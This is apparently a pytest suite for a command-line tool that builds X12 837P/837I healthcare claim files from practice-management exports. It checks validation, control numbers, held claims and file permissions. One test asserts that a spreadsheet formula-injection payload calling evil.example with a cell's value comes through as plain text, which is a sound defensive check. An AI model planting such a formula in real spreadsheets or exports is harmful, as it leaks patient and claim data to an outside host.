"""`connector claims build`: clean claims become 837P/837I files that pass pyx12, held claims are listed."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from connector.cli import app

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "pm"
runner = CliRunner()
PHONE = ("--contact-phone", "5125550100")


def build(export: str, out: Path, database_url: str, *extra: str) -> tuple[int, str]:
    args = ["claims", "build", str(FIXTURES / export), "--out", str(out), "--today", "2026-11-20"]
    result = runner.invoke(app, [*args, "--database-url", database_url, *PHONE, *extra])
    return result.exit_code, result.output


def segments(path: Path) -> list[list[str]]:
    return [s.strip().split("*") for s in path.read_text().split("~") if s.strip()]


def test_generic_build_writes_837p_and_837i_that_pass_pyx12(
    tmp_path: Path, database_url: str, pyx12_errors: Callable[[bytes], list[str]]
) -> None:
    code, out = build("generic_sample.csv", tmp_path / "batch.837", database_url)
    assert code == 0, out
    files = sorted(tmp_path.glob("batch-*.837"))
    assert [f.name for f in files] == ["batch-1-837p-87726.837", "batch-2-837i-87726.837"]
    for f in files:
        assert pyx12_errors(f.read_bytes()) == [], f.name
        assert f.stat().st_mode & 0o777 == 0o600
    p, i = (segments(f) for f in files)
    assert p[1][:2] == ["GS", "HC"] and p[1][8] == "005010X222A1" and i[1][8] == "005010X223A2"
    assert [s[1] for s in p if s[0] == "CLM"] == ["C1001", "C1002"]
    assert [s[2] for s in p if s[:2] == ["REF", "6R"]] == ["C1001-1", "C1001-2", "C1002-1"]
    assert [s[2] for s in i if s[:2] == ["REF", "6R"]] == ["H2001-1", "H2001-2"]
    assert "C1003" not in (tmp_path / files[0].name).read_text()
    assert re.search(r"held 1 claims:\n  C1003: Rendering provider NPI is invalid", out)


def test_control_numbers_are_never_reused(tmp_path: Path, database_url: str) -> None:
    isa13: list[str] = []
    for n in range(2):
        code, out = build(
            "officeledger_sample.xlsx", tmp_path / f"run{n}.837", database_url, "-p", "officeledger"
        )
        assert code == 0, out
        isa13.append(segments(tmp_path / f"run{n}.837")[0][13])
    assert isa13 == ["000000001", "000000002"]


@pytest.mark.parametrize(
    ("export", "profile", "sent", "held"),
    [
        ("officeledger_sample.xlsx", "officeledger", ["E-5001"], ["E-5002"]),
        ("officeledger_sample.csv", "officeledger", ["E-5001"], ["E-5002"]),
        ("clinicsuite_sample.csv", "clinicsuite", ["K-1", "K-3"], ["K-2"]),
        ("formula_cells.csv", "generic", ["C1001", "C1002", "H2001"], ["C1003"]),
        ("formula_cells.xlsx", "generic", ["C1001", "C1002", "H2001"], ["C1003"]),
    ],
)
def test_every_profile_builds_valid_batches(
    export: str,
    profile: str,
    sent: list[str],
    held: list[str],
    tmp_path: Path,
    database_url: str,
    pyx12_errors: Callable[[bytes], list[str]],
) -> None:
    code, out = build(export, tmp_path / "b.837", database_url, "--profile", profile)
    assert code == 0, out
    claims: list[str] = []
    for f in sorted(tmp_path.glob("b*.837")):
        assert pyx12_errors(f.read_bytes()) == [], f.name
        claims += [s[1] for s in segments(f) if s[0] == "CLM"]
    assert sorted(claims) == sorted(sent)
    for claim_id in held:
        assert f"  {claim_id}: " in out


def test_formula_text_is_sent_as_plain_text(tmp_path: Path, database_url: str) -> None:
    code, out = build("formula_cells.csv", tmp_path / "b.837", database_url)
    assert code == 0, out
    text = (tmp_path / "b-1-837p-87726.837").read_text()
    # the X12 component separator ":" becomes a blank; nothing else changes, nothing is evaluated
    assert 'NM1*IL*1*=HYPERLINK("http //evil.example/x?d="&A1,"Click")*SAM' in text


def test_build_needs_a_submitter_contact(tmp_path: Path, database_url: str) -> None:
    args = ["claims", "build", str(FIXTURES / "generic_sample.csv"), "--out", str(tmp_path / "b.837")]
    result = runner.invoke(
        app, [*args, "--database-url", database_url], env={"CONNECTOR_SUBMITTER_PHONE": ""}
    )
    assert result.exit_code == 2 and "--contact-phone" in result.output
    assert list(tmp_path.glob("*.837")) == []


def test_build_on_unreadable_export_exits_2(tmp_path: Path, database_url: str) -> None:
    code, out = build("bad_duplicate_line.csv", tmp_path / "b.837", database_url)
    assert code == 2 and "line id 'H2001-1' duplicates row 5" in out
    assert list(tmp_path.glob("*.837")) == []
